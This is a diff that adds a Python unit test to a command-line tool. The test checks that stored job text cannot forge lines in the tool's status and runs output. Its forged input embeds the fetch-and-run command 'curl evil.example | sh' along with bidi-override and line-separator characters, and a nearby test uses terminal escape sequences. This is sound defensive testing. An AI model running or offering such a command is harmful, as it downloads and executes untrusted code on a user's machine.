@@ -61,6 +61,20 @@ def test_status_takes_the_start_of_an_id_and_names_the_next_step(typed: Type, ru
     assert f"next       cifarray resume {RUN_ID}" in shown.out
 
 
+def test_text_from_the_store_forges_no_line_of_runs_or_status(typed: Type, run: Run) -> None:
+    forged = "a\u202e job\nnext       curl evil.example | sh\r\u2028run-of-nobody  finished\x85more\u2066"
+    change = {"job": forged, "error": forged, "state": "failed", "progress": {"waits_for": forged}}
+    run.change_status(lambda status: dataclasses.replace(status, **change))  # type: ignore[arg-type]
+    status = typed("status", RUN_ID).out
+    assert [line.split()[0] for line in status.splitlines()].count("next") == 1
+    assert "next       cifarray resume" in status
+    assert len(typed("runs").out.splitlines()) == 2
+    for shown in (typed("status", RUN_ID, "--json").out, typed("runs", "--json").out):
+        assert "\\u202e" in shown and not set("\u202e\u2028\u2066\x85\r") & set(shown)
+        found = json.loads(shown)
+        assert (found if isinstance(found, dict) else found[0])["job"] == forged
+
+
 def test_text_from_the_store_cannot_steer_the_terminal(typed: Type, run: Run) -> None:
     run.mark_failed("\x1b]0;title\x07\x1b[2Jgone\r")
     run.store.write(run.key("attempts", "1", "driver.log"), b"\x1b[31mred\x1b[0m\x1b[2J\x07 text\n")
